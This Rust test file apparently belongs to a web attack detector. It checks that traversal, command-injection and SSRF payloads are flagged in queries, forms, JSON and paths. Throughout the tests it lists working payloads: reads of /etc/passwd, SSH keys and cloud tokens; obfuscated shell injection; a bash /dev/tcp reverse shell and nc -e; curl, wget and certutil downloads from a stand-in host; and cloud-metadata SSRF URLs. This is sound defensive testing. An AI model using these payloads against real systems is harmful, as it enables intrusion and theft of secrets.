//! Paths, commands and addresses.

use super::{INPUTS, Put, VALUES, check};

#[test]
fn traversal_is_found_in_every_place() {
    check(
        "traversal",
        VALUES,
        1,
        &[
            "../../../../etc/hosts",
            "..\\..\\..\\..\\boot.ini",
            "....//....//....//etc/passwd",
            "..%2f..%2f..%2f..%2fetc%2fpasswd",
            "..%252f..%252f..%252fetc%252fshadow",
            "..%c0%af..%c0%af..%c0%afetc/passwd",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
            "%uff0e%uff0e%u2215%uff0e%uff0e%u2215%uff0e%uff0e%u2215x",
            "..0x2f..0x2f..0x2f..0x2fetc0x2fpasswd",
            "..%01/..%01/..%01/..%01/etc/passwd",
            "..%c0%qf..%c0%qf..%c0%qf..%c0%qfetc",
            "/..;/..;/manager/html",
            "/var/www/../../etc/passwd",
            "file:///etc/passwd",
            "/etc/passwd",
            "/etc/shadow",
            "c:\\windows\\win.ini",
            "C:/boot.ini",
            "/proc/self/environ",
            "/proc/self/cmdline",
            "php://input",
            "php://filter/convert.base64-encode/resource=index",
            "phar://x.jpg/y",
            "expect://id",
            "WEB-INF/web.xml",
            "/WEB-INF/classes/",
            "../../wp-config.php",
            "/root/.ssh/id_rsa",
            "../.env",
            "../.git/config",
            "/home/u/.bash_history",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "\\\\..\\\\..\\\\..\\\\windows\\\\win.ini",
            "/%5c../%5c../%5c../etc/passwd",
            "/etc/apache2/apache2.conf",
            "/var/log/nginx/access.log",
            "C:\\inetpub\\wwwroot\\web.config",
            "/srv/app/.env",
            "/srv/app/.git/config",
        ],
    );
    check(
        "traversal",
        &[Put::Path],
        1,
        &["../../../x", "..%2f..%2fx", "..;/x", ".git/config", ".env", "WEB-INF/web.xml"],
    );
}

#[test]
fn commands_are_found_in_every_place() {
    check(
        "command",
        VALUES,
        1,
        &[
            "; id",
            ";uname -a",
            "| cat /etc/hosts",
            "a|whoami",
            "a && cat /etc/passwd",
            "a & ipconfig /all",
            "a || ping -c 4 10.1.2.3",
            "`id`",
            "$(uname)",
            "a;$(curl h.example/x)",
            "a; wget http://h.example/x.sh",
            "127.0.0.1; ls -la /",
            "8.8.8.8 && net user",
            "a | nc 10.1.2.3 99 -e /bin/bash",
            ";c'a't /etc/passwd",
            ";w\\ho\\ami",
            ";c$@at /etc/passwd",
            ";un$$ame -a",
            ";cat${IFS}/etc/passwd",
            ";{cat,/etc/passwd}",
            ";/???/c?t /???/p?ss??",
            "/bin/ca[t] /etc/passw*",
            ";/bi[n]/ls",
            "a=id;$a",
            "x=/etc&&cat $x/passwd",
            "bash -i >& /dev/tcp/10.1.2.3/99 0>&1",
            "python3 -c 'import os'; id",
            "() { :; }; echo x",
            "() { ignored; }; /bin/id",
            "() { _; } >_[$($())] { id; }",
            "powershell -enc SQBFAFgA",
            "cmd.exe /c dir",
            "a & dir c:\\",
            "certutil -urlcache -f http://h.example/x x",
            "<!--#exec cmd=\"id\"-->",
            "a; sleep 9",
            "a|sleep 9|",
            "a;time sleep 9",
            "a;sudo id",
            ";chmod +x x.sh",
            ">(tee /tmp/x)",
            ";echo 777",
            "q|echo '7'",
            "ping -c 3 10.1.2.3",
        ],
    );
}

#[test]
fn commands_behind_a_line_break_are_found() {
    check("command", INPUTS, 1, &["a\n/usr/bin/id", "a\r\ncat /etc/passwd", "a%0a/bin/ls%0a"]);
    check("command", INPUTS, 2, &["a\nid", "a%0aid%0a", "a\nls -la"]);
}

#[test]
fn padding_does_not_hide_a_command() {
    let pads = ["A".repeat(700), "x1-".repeat(300), "lorem ipsum dolor sit amet ".repeat(30)];
    for pad in &pads {
        for attack in [";cat /etc/passwd", "| nc 10.1.2.3 99", "&& wget http://10.1.2.3/x"] {
            check("command", &[Put::Query, Put::Form, Put::Json], 1, &[&format!("{pad}{attack}")]);
        }
    }
    for attack in [";id", "|whoami", "$(id)", ";uname -a"] {
        check("command", INPUTS, 1, &[&format!("{}{attack}", pads[0])]);
    }
}

#[test]
fn addresses_inside_are_found() {
    check(
        "ssrf",
        INPUTS,
        1,
        &[
            "http://169.254.169.254/latest/meta-data/iam",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://100.100.100.200/",
            "http://2130706433/",
            "http://0x7f.0x0.0x0.0x1/",
            "http://0177.0.0.1/",
            "http://127.1/",
            "http://[::1]/",
            "http://[::ffff:127.0.0.1]/",
            "http://0x7f000001:8080/",
            "gopher://127.0.0.1:6379/_INFO",
            "dict://127.0.0.1:11211/stat",
            "http://user@2130706433/",
            "http://017700000001/",
            "http://[fd00:ec2::254]/",
            "https://kubernetes.default.svc/",
            "http://x.burpcollaborator.net/",
        ],
    );
    check(
        "ssrf",
        INPUTS,
        2,
        &[
            "http://localhost/admin",
            "http://127.0.0.1:9200/",
            "ldap://h.example/x",
            "http:127.0.0.1",
            "localhost:8080/x",
        ],
    );
}
